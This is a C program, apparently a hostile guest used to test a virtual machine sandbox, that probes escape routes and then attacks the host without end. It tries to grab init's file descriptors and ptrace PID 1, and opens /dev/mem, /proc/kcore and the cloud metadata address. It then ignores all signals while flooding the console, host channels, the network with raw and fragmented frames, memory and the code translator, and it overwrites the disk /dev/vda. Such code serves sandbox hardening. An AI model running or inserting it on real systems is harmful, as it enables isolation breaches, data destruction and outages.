/* An application that wants out: first it says what each way gave, then it goes on with all of them, for ever and with
 * every signal ignored. Its words: a TCP and a UDP port of the host's loopback. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

enum { INIT_FILES = 32, CODE_BYTES = 1 << 20, FRAME_BYTES = 1400 };
static const char *const DEVICES[] = {
    "/dev/vport0p0", "/dev/vport0p1", "/dev/hvc0", "/dev/mem", "/dev/port", "/dev/kmem", "/dev/kmsg", "/proc/kcore",
    "/proc/1/mem", "/proc/1/fd/3", "/proc/1/fd/4", "/proc/sysrq-trigger", "/dev/vda",
};
static const char *const HOSTS[] = {"10.0.2.2", "10.0.2.3", "169.254.169.254", "127.0.0.1"};
static const char *const LINES[] = {
    "1 done X%d\n", "1 phase a%d 5\n", "1 pages 1 7 7 %d 1\n", "1 listens 0100007F:%04X\n", "1 memory total=%d\n", "%d",
};

static void said(const char *what, int failed) { printf("%s: %s\n", what, failed ? strerror(errno) : "WORKS"); }

/* One of init's files that can be written: its port to the host, or the console. */
static int init_file(void)
{
    int init = (int)syscall(SYS_pidfd_open, 1, 0), taken = -1;
    for (int fd = 3; fd < INIT_FILES && taken < 0; fd++)
        taken = (int)syscall(SYS_pidfd_getfd, init, fd, 0);
    return taken;
}

static int connected(int kind, const char *host, int port)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = inet_addr(host)};
    const struct timeval patience = {.tv_sec = 1};
    char answer[8];
    int fd = socket(AF_INET, kind, 0);

    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    int failed = connect(fd, (struct sockaddr *)&to, sizeof to) || write(fd, "?", 1) != 1 || read(fd, answer, 8) < 0;
    close(fd);
    return !failed;
}

static int connected_v6(const char *host, int port)
{
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    int fd = socket(AF_INET6, SOCK_STREAM, 0);
    inet_pton(AF_INET6, host, &to.sin6_addr);
    int failed = fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to);
    close(fd);
    return !failed;
}

/* Each way once. */
static void try_all(int tcp, int udp)
{
    char words[128];

    said("pidfd_getfd", init_file() < 0);
    said("ptrace", ptrace(PTRACE_SEIZE, 1, NULL, NULL) < 0);
    for (size_t i = 0; i < sizeof DEVICES / sizeof *DEVICES; i++) {
        int fd = open(DEVICES[i], O_RDWR | O_NONBLOCK);
        if (fd < 0)
            fd = open(DEVICES[i], O_WRONLY | O_NONBLOCK);
        said(DEVICES[i], fd < 0);
        close(fd);
    }
    said("mknod", mknod("/mem", S_IFCHR | 0600, makedev(1, 1)));
    said("mount", mount("sysfs", "/sys", "sysfs", 0, NULL));
    said("reboot", reboot(RB_ENABLE_CAD));
    said("raw frames", socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) < 0);
    for (size_t i = 0; i < sizeof HOSTS / sizeof *HOSTS; i++) {
        sprintf(words, "tcp %s", HOSTS[i]);
        said(words, !connected(SOCK_STREAM, HOSTS[i], tcp));
        sprintf(words, "udp %s", HOSTS[i]);
        said(words, !connected(SOCK_DGRAM, HOSTS[i], udp));
    }
    said("tcp fec0::2", !connected_v6("fec0::2", tcp));
}

static void flood_console(void)
{
    char block[4096];
    for (unsigned i = 0; i < sizeof block; i++)
        block[i] = (char)(i * 7 + 1);  /* control characters, bytes that are no UTF-8, few ends of lines */
    for (;;)
        if (write(1, block, sizeof block) < 0)
            usleep(1000);
}

/* Whatever of the host's can be opened is written to: different lines, and one without an end. */
static void flood_channel(void)
{
    for (;;) {
        int files[sizeof DEVICES / sizeof *DEVICES + 1], count = 0;
        for (size_t i = 0; i < sizeof DEVICES / sizeof *DEVICES; i++)
            if ((files[count] = open(DEVICES[i], O_WRONLY | O_NONBLOCK)) >= 0)
                count++;
        if ((files[count] = init_file()) >= 0)
            count++;
        for (int i = 0; i < 20000; i++)
            for (int j = 0; j < count; j++)
                dprintf(files[j], LINES[i % (sizeof LINES / sizeof *LINES)], rand());
        for (int j = 0; j < count; j++)
            close(files[j]);
        usleep(1000);
    }
}

/* The first part of a datagram to the gateway, whose other parts never come. */
static void part_write(unsigned char *frame, unsigned number)
{
    const unsigned char head[20] = {
        0x45, 0, (FRAME_BYTES - 14) >> 8, (FRAME_BYTES - 14) & 255, (unsigned char)(number >> 8), (unsigned char)number,
        0x20, 0, 64, 17, 0, 0, 10, 0, 2, 15, 10, 0, 2, 2,
    };
    unsigned sum = 0;

    memcpy(frame + 12, "\x08\x00", 2);
    memcpy(frame + 14, head, sizeof head);
    for (int i = 0; i < 20; i += 2)
        sum += (unsigned)head[i] << 8 | head[i + 1];
    sum = ~((sum & 0xffff) + (sum >> 16));
    frame[24] = (unsigned char)(sum >> 8);
    frame[25] = (unsigned char)sum;
}

static void flood_network(int tcp, int udp)
{
    unsigned char frame[FRAME_BYTES] = "\x52\x55\x0a\x00\x02\x02";  /* the gateway's card */
    int raw = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = 6};

    for (;;) {
        for (size_t i = 0; i < sizeof HOSTS / sizeof *HOSTS; i++) {
            connected(SOCK_STREAM, HOSTS[i], tcp);
            connected(SOCK_DGRAM, HOSTS[i], udp);
        }
        for (int i = 0; raw >= 0 && i < 2000; i++) {
            for (unsigned at = 6; at < sizeof frame; at++)
                frame[at] = (unsigned char)rand();
            memcpy(frame + 12, i % 2 ? "\x86\xdd\x60" : "\x08\x00\x45", 3);  /* IPv6 and IPv4 in turn */
            if (i % 3 == 2)
                part_write(frame, (unsigned)rand());
            sendto(raw, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to);
        }
    }
}

/* Code that was never there before, again and again: an emulated machine translates it, and keeps that. */
static void flood_translator(void)
{
    unsigned char *code = mmap(NULL, CODE_BYTES, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    for (unsigned round = 1; code != MAP_FAILED; round++) {
        for (unsigned at = 0; at + 16 <= CODE_BYTES; at += 16) {
            static const unsigned char REST[10] = {0x05, 0, 0, 0, 0, 0x35, 0, 0, 0, 0};  /* add, xor eax, imm32 */
            unsigned value = round * 2654435761u + at;
            memcpy(code + at, REST, sizeof REST);
            memcpy(code + at + 1, &value, 4);
            memcpy(code + at + 6, &round, 4);
            code[at + 10] = 0xc3;  /* ret */
        }
        for (unsigned at = 0; at + 16 <= CODE_BYTES; at += 16)
            ((void (*)(void))(code + at))();
    }
}

/* When memory runs out the kernel ends this process before those of a smaller number; the application has the smallest. */
static void killed_before(const char *score)
{
    int fd = open("/proc/self/oom_score_adj", O_WRONLY);
    if (write(fd, score, strlen(score)) < 0)
        printf("oom_score_adj %s: %s\n", score, strerror(errno));
    close(fd);
}

static void flood_memory(void)
{
    for (;;) {
        pid_t hog = fork();
        if (!hog) {
            killed_before("1000");
            for (;;) {
                char *more = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
                if (more == MAP_FAILED)
                    usleep(1000);
                else
                    memset(more, rand(), 1 << 20);
            }
        }
        usleep(200000);
        if (hog > 0)
            kill(hog, SIGKILL);
        waitpid(hog, NULL, 0);
    }
}

static void flood_disk(void)
{
    static char block[65536];
    for (;;) {
        int fd = open("/dev/vda", O_WRONLY);
        while (fd >= 0 && write(fd, block, sizeof block) > 0)
            memset(block, rand(), sizeof block);
        fsync(fd);
        close(fd);
        usleep(1000);
    }
}

int main(int argc, char **argv)
{
    int tcp = argc > 2 ? atoi(argv[1]) : 1, udp = argc > 2 ? atoi(argv[2]) : 1;

    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
    signal(SIGCHLD, SIG_DFL);
    setvbuf(stdout, NULL, _IOLBF, 0);
    usleep(300000);  /* until init has its port */
    try_all(tcp, udp);
    killed_before("-1000");
    printf("that was all\n");
    fflush(stdout);
    for (int i = 0; i < 8; i++)
        if (!fork()) {
            killed_before("500");
            if (i == 0) flood_console();
            if (i == 1) flood_channel();
            if (i == 2) flood_network(tcp, udp);
            if (i == 3 || i > 5) flood_translator();
            if (i == 4) flood_memory();
            if (i == 5) flood_disk();
            _exit(1);
        }
    for (;;)
        pause();
}
